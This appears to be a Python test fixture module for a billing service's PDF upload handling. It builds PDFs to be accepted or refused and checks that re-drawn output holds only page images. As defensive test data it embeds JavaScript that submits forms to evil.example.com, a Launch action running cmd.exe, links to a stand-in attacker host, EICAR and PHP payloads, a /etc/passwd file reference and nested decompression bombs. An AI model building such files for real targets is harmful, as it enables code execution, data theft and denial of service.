"""PDFs that people send and should not, or may, and the look inside those that were drawn anew."""

import io
import re
import zlib
from collections.abc import Callable
from functools import cache, partial
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.billing.files_of_strangers import EICAR, PHP, SCRIPT, Corpus, File, archive, exif, picture

Change = Callable[[Pdf], Any]
EVIL = "app.alert(1); this.submitForm('https://evil.example.com');"
JAVASCRIPT = {"/S": Name.JavaScript, "/JS": String(EVIL)}


def pdf(change: Change | None = None, pages: int = 1, **options: Any) -> bytes:
    """A PDF with a line of text on each page, after `change`."""
    file = Pdf.new()
    for number in range(pages):
        page = file.add_blank_page(page_size=(300, 200))
        page.Contents = file.make_stream(b"BT /F1 12 Tf 20 100 Td (Paid 89.00 on page %d) Tj ET" % number)
        page.Resources = Dictionary(
            Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        )
    if change:
        change(file)
    target = io.BytesIO()
    file.save(target, fix_metadata_version=False, **options)
    return target.getvalue()


def in_catalog(**entries: Any) -> Change:
    def change(file: Pdf) -> None:
        for key, value in entries.items():
            file.Root[f"/{key}"] = value

    return change


def on_page(**entries: Any) -> Change:
    def change(file: Pdf) -> None:
        for key, value in entries.items():
            file.pages[0].obj[f"/{key}"] = value

    return change


def annotated(subtype: str, **entries: Any) -> Change:
    """An annotation of this subtype on the page."""
    note = {"Type": Name.Annot, "Subtype": Name(f"/{subtype}"), "Rect": Array([10, 10, 90, 90]), **entries}
    return on_page(Annots=Array([Dictionary({f"/{key}": value for key, value in note.items()})]))


def acting(action: str, **entries: Any) -> Change:
    """A link with this action."""
    return annotated("Link", A=Dictionary({"/S": Name(f"/{action}"), **{f"/{k}": v for k, v in entries.items()}}))


def with_attachment(file: Pdf) -> None:
    for name, content in (("eicar.com", EICAR), ("evil.js", SCRIPT), ("a.zip", archive(a_txt=b"x"))):
        file.attachments[name] = pikepdf.AttachedFileSpec(file, content, filename=name)


def with_attached_note(file: Pdf) -> None:
    with_attachment(file)
    specification = file.Root.Names.EmbeddedFiles.Names[1]
    file.pages[0].obj.Annots = Array([Dictionary(Subtype=Name.FileAttachment, FS=specification, Rect=[0, 0, 9, 9])])
    file.Root.AF = Array([specification])


def with_form(file: Pdf) -> None:
    look = file.make_stream(b"BT /F1 9 Tf (Filled in) Tj ET", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 80, 80])
    field = file.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("reference"), V=String("BT-1"),
            Rect=[10, 10, 90, 90], AP=Dictionary(N=look), AA=Dictionary(K=Dictionary(JAVASCRIPT)),
        )
    )  # fmt: skip
    file.pages[0].obj.Annots = Array([field])
    packets = Array([String("template"), file.make_stream(b"<xdp:xdp>" + SCRIPT + b"</xdp:xdp>")])
    file.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=packets, NeedAppearances=True)


def with_image(data: bytes, width: int = 40, height: int = 30, **entries: Any) -> Change:
    """The image as the picture of the page."""

    def change(file: Pdf) -> None:
        looks = {"Width": width, "Height": height, "ColorSpace": Name.DeviceRGB, "BitsPerComponent": 8, **entries}
        image = file.make_stream(data, Type=Name.XObject, Subtype=Name.Image, **looks)
        file.pages[0].obj.Resources.XObject = Dictionary(Im=image)
        file.pages[0].obj.Contents = file.make_stream(b"q 100 0 0 80 0 0 cm /Im Do Q")

    return change


def with_metadata(file: Pdf) -> None:
    file.Root.Metadata = file.make_stream(
        b"<x:xmpmeta>" + SCRIPT + b"</x:xmpmeta>", Type=Name.Metadata, Subtype=Name.XML
    )
    file.docinfo["/Author"] = "Lahore 31.5204 N"
    file.pages[0].obj.PieceInfo = Dictionary(App=Dictionary(Private=String(PHP.decode())))


def with_contents(*pieces: bytes) -> Change:
    """These pieces as what the page draws."""

    def change(file: Pdf) -> None:
        streams = [file.make_stream(piece) for piece in pieces]
        file.pages[0].obj.Contents = streams[0] if len(streams) == 1 else Array(streams)

    return change


def with_itself(file: Pdf) -> None:
    """A drawing that draws itself, and a page tree's page in its own resources."""
    form = file.make_stream(b"/Fm Do", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 10, 10])
    form.Resources = Dictionary(XObject=Dictionary(Fm=form))
    file.pages[0].obj.Resources.XObject = Dictionary(Fm=form, Page=file.pages[0].obj)


@cache
def zeros_packed(layers: int) -> bytes:
    """200 MB of nothing, packed that many times."""
    return zlib.compress(bytes(200_000_000) if layers == 1 else zeros_packed(layers - 1), 9)


def bomb(layers: int) -> bytes:
    def change(file: Pdf) -> None:
        stream = file.make_stream(zeros_packed(layers))
        stream.Filter = Array([Name.FlateDecode] * layers)
        file.pages[0].obj.Contents = stream

    # Written as it is, or pikepdf would unpack it first.
    return pdf(change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def with_type3_font(file: Pdf) -> None:
    glyph = file.make_stream(b"500 0 0 0 500 500 d1 0 0 500 500 re f")
    font = Dictionary(
        Type=Name.Font, Subtype=Name.Type3, FontBBox=[0, 0, 500, 500], FontMatrix=[0.001, 0, 0, 0.001, 0, 0],
        CharProcs=Dictionary(AA=glyph), FirstChar=65, LastChar=65, Widths=[500],
        Encoding=Dictionary(Type=Name.Encoding, Differences=[65, Name.AA]),
    )  # fmt: skip
    file.pages[0].obj.Resources.Font.F1 = font
    file.pages[0].Contents = file.make_stream(b"BT /F1 12 Tf 20 100 Td (AAA) Tj ET")


def printer_program(file: Pdf) -> None:
    program = file.make_stream(SCRIPT, Type=Name.XObject, Subtype=Name.PS)
    file.pages[0].obj.Resources.XObject = Dictionary(Ps=program)


def appended(content: bytes) -> bytes:
    """A later version of the file behind the first one, which adds a script, as incremental updates do."""
    at = content.rindex(b"startxref")
    first = content[at + 9 :].split()[0]
    root = (
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\n"
    )
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 9 /Root 1 0 R /Prev %s >>\n" % (len(content) + 1, first)
    return content + b"\n" + root + table + b"startxref\n%d\n%%%%EOF\n" % (len(content) + 1 + len(root))


def classic(change: Change | None = None) -> bytes:
    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.disable, qdf=True, static_id=True)


def damaged(**replaced: bytes) -> bytes:
    """A PDF with words replaced by others of any length."""
    content = classic()
    for word, other in replaced.items():
        content = content.replace(f"/{word}".encode(), other)
    return content


def pdfs_taken() -> Corpus:
    """PDFs that are taken, whatever else they carry."""
    jpeg = picture("JPEG", exif=exif(6), comment=SCRIPT)
    changes: dict[str, Change] = {
        "PDF script on opening": in_catalog(OpenAction=Dictionary(JAVASCRIPT)),
        "PDF going somewhere on opening": in_catalog(OpenAction=Array([0, Name.Fit])),
        "PDF scripts by name": in_catalog(
            Names=Dictionary(JavaScript=Dictionary(Names=[String("a"), Dictionary(JAVASCRIPT)]))
        ),
        "PDF script on closing": in_catalog(AA=Dictionary(WC=Dictionary(JAVASCRIPT))),
        "PDF script on turning a page": on_page(AA=Dictionary(O=Dictionary(JAVASCRIPT))),
        "PDF script in bookmarks": in_catalog(
            Outlines=Dictionary(First=Dictionary(Title=String("a"), A=Dictionary(JAVASCRIPT)), Count=1)
        ),
        "PDF starting a program": acting("Launch", Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))),
        "PDF link": acting("URI", URI=String("https://evil.example.com/")),
        "PDF link to a script": acting("URI", URI=String("javascript:alert(1)")),
        "PDF sending a form": acting("SubmitForm", F=String("https://evil.example.com/")),
        "PDF opening another": acting("GoToR", F=String("\\\\evil.example.com\\share\\a.pdf"), D=Array([0, Name.Fit])),
        "PDF opening an attachment": acting("GoToE", T=Dictionary(R=Name.C)),
        "PDF importing data": acting("ImportData", F=String("a.fdf")),
        "PDF chain of actions": acting("Named", N=Name.Print, Next=Array([Dictionary(JAVASCRIPT)])),
        "PDF rich media": annotated("RichMedia", RichMediaContent=Dictionary(Assets=Dictionary())),
        "PDF film": annotated("Movie", Movie=Dictionary(F=String("https://evil.example.com/a.avi"))),
        "PDF sound": annotated("Sound"),
        "PDF in three dimensions": annotated("3D"),
        "PDF note": annotated("Text", Contents=String(SCRIPT.decode())),
        "PDF with attachments": with_attachment,
        "PDF with an attached note": with_attached_note,
        "PDF form with scripts and XFA": with_form,
        "PDF about its author": with_metadata,
        "PDF collection": in_catalog(Collection=Dictionary(View=Name.T), URI=Dictionary(Base=String("https://a/"))),
        "PDF hidden layers": in_catalog(OCProperties=Dictionary(OCGs=Array(), D=Dictionary(BaseState=Name.OFF))),
        "PDF that draws itself": with_itself,
        "PDF own font": with_type3_font,
        "PDF photograph": with_image(jpeg, Filter=Name.DCTDecode),
        "PDF packed photograph": with_image(zlib.compress(jpeg), Filter=[Name.FlateDecode, Name.DCTDecode]),
        "PDF photograph and zip": with_image(jpeg + archive(a_txt=b"x"), Filter=Name.DCTDecode),
        "PDF photograph without an end's end": with_image(picture("JPEG", progressive=True), Filter=Name.DCTDecode),
        "PDF picture": with_image(zlib.compress(b"\xff\0\0" * 1200) + SCRIPT, Filter=Name.FlateDecode),
        "PDF plain picture": with_image((SCRIPT + PHP) * 60),
        "PDF fax": with_image(
            b"\0" * 9 + SCRIPT, ColorSpace=Name.DeviceGray, BitsPerComponent=1, Filter=Name.CCITTFaxDecode,
            DecodeParms=Dictionary(K=-1, Columns=40, Rows=30, Evil=Dictionary(JAVASCRIPT)),
        ),
        "PDF other versions of a picture": with_image(jpeg, Filter=Name.DCTDecode, Alternates=[], OPI={}),
        "PDF turned and cut": on_page(Rotate=90, CropBox=Array([10, 10, 200, 150]), UserUnit=2),
        "PDF script as a comment": with_contents(b"%" + SCRIPT + b"\n0 0 9 9 re f"),
        "PDF page of several pieces": with_contents(b"q 0 0 9 9", b"re f Q"),
        "PDF with a program for printers": printer_program,
        "PDF with JPEG 2000": with_image(picture("JPEG2000"), Filter=Name.JPXDecode),
    }  # fmt: skip
    good = pdf()
    files: dict[str, File] = {
        **{name: partial(pdf, change) for name, change in changes.items()},
        "PDF": good,
        "PDF of 20 pages": lambda: pdf(pages=20),
        "PDF of the old kind": classic,
        "PDF packed": lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "PDF for the web": lambda: pdf(linearize=True),
        "PDF and zip": lambda: good + archive(a_txt=b"x"),
        "PDF and HTML": good + b"\n<html>" + SCRIPT,
        "PDF and EICAR": good + b"\n" + EICAR,
        "PDF with a script appended": lambda: appended(classic()),
    }
    return {name: (file, 201) for name, file in files.items()}


def pdfs_refused() -> Corpus:
    """PDFs that are broken, locked, endless or strange."""
    good, jpeg = classic(), picture("JPEG")
    locked = [pikepdf.Encryption(user=user, owner="o", R=revision) for user in ("u", "") for revision in (4, 6)]
    files: dict[str, File] = {
        **{f"PDF locked {number}": partial(pdf, encryption=lock) for number, lock in enumerate(locked)},
        "PDF of 21 pages": lambda: pdf(pages=21),
        "PDF of no page": lambda: pdf(pages=0),
        "PDF beginning only": b"%PDF-1.7",
        "PDF cut in half": good[: len(good) // 2],
        "PDF cut at its end": good[:-40],
        "HTML behind a PDF's beginning": b"%PDF-1.4\n" + SCRIPT,
        "EICAR behind a PDF's beginning": b"%PDF-1.4\n" + EICAR,
        "zip behind a PDF's beginning": lambda: b"%PDF-1.4\n" + archive(a_txt=b"x"),
        "PDF without pages": lambda: damaged(Pages=b"/Pagez"),
        "PDF whose pages go round": lambda: damaged(Kids=b"/Kids [ 2 0 R ] /Old"),
        "PDF nested without end": good.replace(b"/Rotate", b"/R", 1).replace(
            b"/MediaBox", b"/Group " + b"[" * 5000 + b"]" * 5000 + b" /MediaBox", 1
        ),
        "PDF that unpacks without end": lambda: bomb(1),
        "PDF packed three times": lambda: bomb(3),
        "PDF packed four times": lambda: bomb(4),
        "PDF of too many pixels": lambda: pdf(with_image(jpeg, 30_000, 30_000, Filter=Name.DCTDecode)),
        "PDF picture of no size": lambda: pdf(with_image(jpeg, 0, 0, Filter=Name.DCTDecode)),
        "PDF page of nothing": lambda: pdf(with_contents()),
        "PDF page of white on white": lambda: pdf(with_contents(b"1 g 0 0 99 99 re f")),
        "PDF picture from a file": lambda: pdf(with_image(b"", F=String("/etc/passwd"), FFilter=Name.FlateDecode)),
        "PDF with half a photograph": lambda: pdf(with_image(jpeg[:200], Filter=Name.DCTDecode)),
        "PDF with a photograph that is none": lambda: pdf(with_image(SCRIPT, Filter=Name.DCTDecode)),
        "PDF with a filter of its own": lambda: pdf(with_image(SCRIPT, Filter=Name.Own)),
    }  # fmt: skip
    return {name: (file, 400) for name, file in files.items()}


# All that a file of ours has: where the pages are, and on each page one picture.
OURS = {
    "/Catalog": {"/Type", "/Pages"},
    "/Pages": {"/Type", "/Count", "/Kids"},
    "/Page": {"/Type", "/Parent", "/Resources", "/MediaBox", "/Contents"},
    "/XObject": {
        "/Type", "/Subtype", "/Width", "/Height", "/Filter", "/BitsPerComponent", "/ColorSpace", "/Length"
    },
    "": {"/Length"},
}  # fmt: skip
PLACED = re.compile(rb"q [0-9.]+ 0 0 [0-9.]+ 0 0 cm /image Do Q\n")


def require_only_pictures(content: bytes) -> None:
    """A PDF holds its pages, a picture on each, and nothing else: no word of it is of anybody but us."""
    with Pdf.open(io.BytesIO(content)) as file:
        assert set(file.trailer.keys()) <= {"/Root", "/Size"}
        assert len(file.objects) == 2 + 3 * len(file.pages)
        for item in file.objects:
            assert isinstance(item, (Dictionary, pikepdf.Stream))
            assert set(item.keys()) <= OURS[str(item.get("/Type", ""))]
        for page in file.pages:
            assert set(page.obj.Resources.keys()) == {"/ProcSet", "/XObject"}
            assert list(page.obj.Resources.XObject.keys()) == ["/image"]
            assert str(page.obj.Resources.XObject.image.Filter) == "/DCTDecode"
            assert PLACED.fullmatch(page.obj.Contents.read_bytes())


def jpegs_in(content: bytes) -> list[bytes]:
    """The pictures in a PDF of ours, page by page."""
    with Pdf.open(io.BytesIO(content)) as file:
        return [page.obj.Resources.XObject.image.read_raw_bytes() for page in file.pages]
